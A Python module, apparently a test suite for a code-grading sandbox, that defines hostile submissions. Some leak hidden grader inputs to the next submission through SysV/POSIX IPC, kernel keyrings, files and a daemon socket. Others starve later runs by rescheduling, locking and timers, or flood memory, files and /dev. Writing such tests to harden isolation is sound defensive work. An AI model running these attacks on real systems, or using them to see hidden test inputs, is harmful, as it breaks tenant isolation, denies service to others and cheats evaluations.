"""Hostile submissions that use the kernel: to hand what they were asked to the next one, to starve it, and to flood the host.

Those named `leak_by_...` come in twos: both record the hidden inputs that they are asked about in something that the
kernel keeps, and print on their page what they find there when they start.
"""

# ruff: noqa: E501

from __future__ import annotations

import textwrap

from .submissions import DIV, KNOWN, LEAK, MARKER, attack

LIBC = """
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_ssize_t
    KEY, CREATE, LENGTH = 0x5EED, 0o1666, 240

    def attached(how):
        return libc.shmat(libc.shmget(KEY, LENGTH, how), None, 0)
"""
ALL_FOLDERS = (
    """[*"/ /dev /dev/pts /dev/mqueue /dev/shm /etc /home /home/student /run /tmp /units /var /var/tmp /proc/self/task".split()]"""
)
RECORDS = {  # where -> (what it is, code that keeps the bytes of `data`, code whose value is the bytes that are there)
    "semaphores": (
        "the values of System V semaphores",
        """
        set_ = libc.semget(KEY, LENGTH, CREATE)
        for number, byte in enumerate(data[:LENGTH]):
            libc.semctl(set_, number, 16, byte)
        """,
        "bytes(max(0, libc.semctl(libc.semget(KEY, LENGTH, 0), number, 12)) for number in range(LENGTH))",
    ),
    "message_queue": (
        "a System V message queue",
        "libc.msgsnd(libc.msgget(KEY, CREATE), ctypes.create_string_buffer(b'1' * 8 + data[:LENGTH]), min(len(data), LENGTH), 0o4000)",
        "(text := ctypes.create_string_buffer(8 + LENGTH), libc.msgrcv(libc.msgget(KEY, 0), text, LENGTH, 0, 0o4000)) and text.raw[8:]",
    ),
    "shared_memory": (
        "System V shared memory",
        "(place := attached(CREATE)) != -1 and ctypes.memmove(place, data[:LENGTH], min(len(data), LENGTH))",
        "(place := attached(0)) != -1 and ctypes.string_at(place, LENGTH)",
    ),
    "posix_queue": (
        "a POSIX message queue",
        """
        shape = (ctypes.c_long * 8)(0, 4, LENGTH)
        libc.mq_send(libc.mq_open(b"/asked", os.O_CREAT | os.O_RDWR | os.O_NONBLOCK, 0o666, shape), data[:LENGTH], len(data[:LENGTH]), 0)
        """,
        "(text := ctypes.create_string_buffer(LENGTH), libc.mq_receive(libc.mq_open(b'/asked', os.O_RDONLY | os.O_NONBLOCK), text, LENGTH, None))"
        " and text.raw",
    ),
    "key": (
        "keys of the user and of the session",
        "[libc.syscall(248, b'user', f'asked{ring}'.encode(), data[:LENGTH], len(data[:LENGTH]), ring) for ring in (-3, -4, -5)]",
        "[(text := ctypes.create_string_buffer(LENGTH), libc.syscall(250, 11, libc.syscall(250, 10, ring, b'user', f'asked{ring}'.encode(), 0),"
        " text, LENGTH)) and text.raw for ring in (-3, -4, -5)][0]",
    ),
    "files": (
        "files in every folder",
        f"""
        for folder in {ALL_FOLDERS}:
            try:
                open(folder + "/asked", "wb").write(data)
            except OSError:
                pass
        """,
        f"b''.join(open(folder + '/asked', 'rb').read() for folder in {ALL_FOLDERS} if os.path.exists(folder + '/asked'))",
    ),
    "names_of_files": (
        "names, sizes and times of empty files in the folders that are there to be written to",
        """
        for folder in ("/tmp", "/dev/shm", "/home/student", "/dev/pts", "/dev/mqueue"):
            try:
                os.mknod(folder + "/asked" + data[:200].decode())
            except OSError:
                pass
        """,
        "''.join(name for folder in ('/tmp', '/dev/shm', '/home/student', '/dev/pts', '/dev/mqueue') if os.path.isdir(folder)"
        " for name in os.listdir(folder) if name.startswith('asked')).encode()",
    ),
    "open_files": (
        "whatever pipe or terminal is open when it starts",
        """
        for fd in range(64):
            try:
                os.set_blocking(fd, False)
                if not stat.S_ISREG(os.fstat(fd).st_mode) and not stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, data[:LENGTH])
            except OSError:
                pass
        """,
        "b''.join(filter(None, map(again, range(64))))",
    ),
    "daemon": (
        "a daemon, forked twice, that answers on an abstract socket",
        """
        if os.fork() == 0:
            os.setsid()
            try:
                listening = socket.socket(socket.AF_UNIX)
                listening.bind("\\0asked")
                listening.listen()
                while os.fork() == 0:
                    listening.accept()[0].sendall(data)
            finally:
                os._exit(0)
        """,
        "(line := socket.socket(socket.AF_UNIX), line.connect('\\0asked')) and line.recv(LENGTH)",
    ),
    "parent": (
        "the scheduling, limits and processors of every process in sight, eight bits in each",
        """
        for pid in [0, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
            for kind in range(16) if pid != os.getpid() else ():
                try:
                    soft, hard = resource.prlimit(pid, kind)
                    resource.prlimit(pid, kind, (data[kind], hard))
                except (OSError, ValueError):
                    pass
            if pid:
                try:
                    open(f"/proc/{pid}/oom_score_adj", "w").write(str(data[0]))
                except OSError:
                    pass
        """,
        "bytes(min(255, max(0, resource.prlimit(0, kind)[0])) for kind in range(16))",
    ),
}
RECORDER = """
    import resource
    import socket
    import stat

    def again(fd):
        try:
            return os.read(os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK), 4000)
        except OSError:
            return b""

    def keep(data):
WRITE

    try:
        found = READ
        print("LEAK", found.decode(errors="replace").replace("\\0", ""))
    except (OSError, ValueError, AttributeError, TypeError) as error:
        print(error)
"""
for where, (what, write, read) in RECORDS.items():
    code = RECORDER.replace("WRITE", textwrap.indent(textwrap.dedent(write).strip(), " " * 8)).replace("READ", read).replace("LEAK", LEAK)
    for number in (1, 2):
        attack(
            f"leak_by_{where}_{number}",
            f"hands the hidden inputs to the next submission, which prints them: by {what}",
            DIV,
            first=[textwrap.dedent(LIBC) + textwrap.dedent(code), KNOWN],
            bodies={
                "sqrt": (
                    """
                    if not is_shown(inputs[0]):
                        try:
                            keep(str([round(value, 3) for value in inputs[0].flatten()[:4].tolist()]).encode().ljust(16))
                        except (OSError, ValueError):
                            pass
                    return inputs[0] ** 0.5
                    """,
                )
            },
            worth={"sqrt": 1.0},
        )

# --- starving the next one

attack(
    "starve_scheduler",
    "gives every process in sight the lowest class of scheduling and of disk access, one processor, and the first place when memory is short",
    DIV,
    last=LIBC
    + f"""
    import resource

    others = {{os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())}} - {{os.getpid()}}
    changes = (
        lambda pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda pid: os.sched_setscheduler(pid, os.SCHED_BATCH, os.sched_param(0)),
        lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda pid: os.sched_setaffinity(pid, {{0}}),
        lambda pid: open(f"/proc/{{pid}}/oom_score_adj", "w").write("1000"),
        lambda pid: open(f"/proc/{{pid}}/autogroup", "w").write("19"),
        lambda pid: open(f"/proc/{{pid}}/timerslack_ns", "w").write("4000000000"),
        lambda pid: resource.prlimit(pid, resource.RLIMIT_DATA, (2**20, 2**20)),
        lambda pid: libc.syscall(251, 1, pid, 3 << 13) and os.stat("/nowhere"),
    )
    for pid in others:
        for change in changes:
            try:
                change(pid)
                print("{MARKER}", pid)
            except OSError as error:
                print(error)
    for kind in (os.PRIO_PGRP, os.PRIO_USER):
        try:
            os.setpriority(kind, 0, 19)
        except OSError as error:
            print(error)
    os.killpg(0, 0)
    """,
)
attack(
    "starve_semaphores",
    "makes as many semaphores, queues and segments as there may be: memory that belongs to no process",
    DIV,
    last=LIBC
    + """
    made = [libc.semget(0, 32000, CREATE) for _ in range(200)]
    for number in range(200):
        queue = libc.msgget(0, CREATE)
        while queue >= 0 and libc.msgsnd(queue, ctypes.create_string_buffer(b"1" * 8 + b"x" * 8000), 8000, 0o4000) == 0:
            pass
        made += [queue, libc.shmget(0, 2**20, CREATE), libc.mq_open(b"/%d" % number, os.O_CREAT | os.O_RDWR, 0o666, None)]
    print(sum(one >= 0 for one in made))
    """,
)
attack(
    "starve_locks",
    "locks and watches every file that the next one will import",
    DIV,
    last=LIBC
    + """
    import fcntl
    import sys

    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None)
        if path:
            try:
                file = os.open(path, os.O_RDONLY)
                fcntl.flock(file, fcntl.LOCK_EX)
            except OSError:
                pass
            libc.inotify_add_watch(libc.inotify_init(), path.encode(), 0xFFF)
    """,
)
attack(
    "starve_timers",
    "leaves timers, alarms and events behind that go off while the next one runs",
    DIV,
    last=LIBC
    + """
    import signal

    for clock in range(12):
        libc.timer_create(clock, None, ctypes.byref(ctypes.c_void_p()))
        libc.timerfd_create(clock, 0)
    for pid in (os.getppid(), 1, -1, 0):
        for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGUSR1, signal.SIGWINCH, signal.SIGCONT):
            try:
                os.kill(pid, number) if pid > 0 else None
            except OSError:
                pass
    signal.setitimer(signal.ITIMER_REAL, 5)
    """,
)

# --- flooding

attack(
    "flood_while_talking",
    "sends the first byte of a message, and then takes all memory: whoever waits for the rest of it does not look",
    DIV,
    last="""
        import gc
        import os
        import time

        for one in gc.get_objects():
            if type(one).__name__ == "socket" and one.fileno() > 0:
                one.send(b"x")
        for _ in range(20):
            if os.fork() == 0:
                hoard = [bytearray(b"x") * 10_000_000 for _ in range(40)]
                time.sleep(10**6)
        time.sleep(10**6)
    """,
)
attack(
    "flood_empty_files",
    "makes folders in folders and empty files without end, wherever it can",
    DIV,
    last="""
        import os

        for place in ("/tmp", "/dev/shm", "/home/student", "/dev"):
            try:
                os.chdir(place)
                for number in range(225_000):
                    os.mknod(str(number))
            except OSError as error:
                print(place, number, error)
            try:
                for number in range(5000):
                    os.mkdir("deep")
                    os.chdir("deep")
            except OSError as error:
                print(error)
        os.chdir("/home/student")
    """,
)
attack(
    "flood_devices",
    "fills /dev and what is below it, which may be a folder in memory of half of all there is, and opens terminals without end",
    DIV,
    last="""
        import os

        block = b"x" * 2**20
        for place in ("/dev", "/dev/pts", "/dev/mqueue", "/run", "/var/tmp", "/etc", "/home", "/units", "/"):
            for number in range(80):
                try:
                    with open(f"{place}/{number}", "wb") as file:
                        for _ in range(60):
                            file.write(block)
                except OSError as error:
                    print(error)
                    break
        try:
            while True:
                os.openpty()
        except OSError as error:
            print(error)
    """,
)
